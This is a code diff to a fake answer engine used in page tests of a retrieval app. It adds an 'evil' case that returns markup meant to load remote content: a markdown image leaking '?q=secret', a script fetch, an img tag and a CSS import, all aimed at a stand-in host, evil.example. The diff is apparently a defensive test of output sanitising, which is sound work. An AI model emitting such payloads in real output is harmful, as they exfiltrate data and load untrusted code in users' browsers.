@@ -1,7 +1,8 @@
 """An engine with a script instead of a model, for tests of the page that need exact timing.
 
 A question decides what happens: "slow ..." writes a word at a time until it is stopped, "nothing ..." is refused,
-"broken ..." fails, "crash ..." fails in a way nobody foresaw; everything else is answered at once.
+"broken ..." fails, "crash ..." fails in a way nobody foresaw, "evil ..." tries to load what it must not; everything
+else is answered at once.
 """
 
 import json
@@ -26,7 +27,7 @@ from app.types import (
 from retrieval.config import Settings
 from retrieval.errors import WriterFailed
 from retrieval.payload import document_to_json
-from retrieval.store import FileEntry, Manifest, current
+from retrieval.store import FORMAT, FileEntry, Manifest, current
 from retrieval.types import Block, Document, Retrieval, Section
 
 TEXT = """# Measures of a model
@@ -126,7 +127,7 @@ def write_index(index_dir: Path, name: str = "v1") -> None:
     questions = ["What is perplexity?", "When does perplexity fall?"]
     course = {"id": DOCUMENT.id, "title": DOCUMENT.title, "path": DOCUMENT.path, "questions": questions}
     manifest = Manifest(
-        format=1,
+        format=FORMAT,
         created="2026-01-02T03:04:05+00:00",
         corpus="corpus",
         title="Models, measured",
@@ -139,6 +140,12 @@ def write_index(index_dir: Path, name: str = "v1") -> None:
     )
     (folder / "manifest.json").write_text(manifest.to_json(), encoding="utf-8")
     (index_dir / "CURRENT").write_text(name + "\n", encoding="utf-8")
+
+
+EVIL_TEXT = """![leak](https://evil.example/?q=secret) <img src="https://evil.example/x"> [1]
+
+<script>fetch("https://evil.example/y")</script> [follow](https://evil.example/z) <style>@import "https://evil.example/s"</style>
+"""
 
 
 @dataclass
@@ -165,6 +172,8 @@ class FakeEngine:
                 raise WriterFailed("The writer could not be reached. Try again in a minute.")
             case "crash":
                 raise ZeroDivisionError("secret detail")
+            case "evil":
+                yield Done(_answer(EVIL_TEXT))
             case "slow":
                 yield from self._slowly()
             case _:
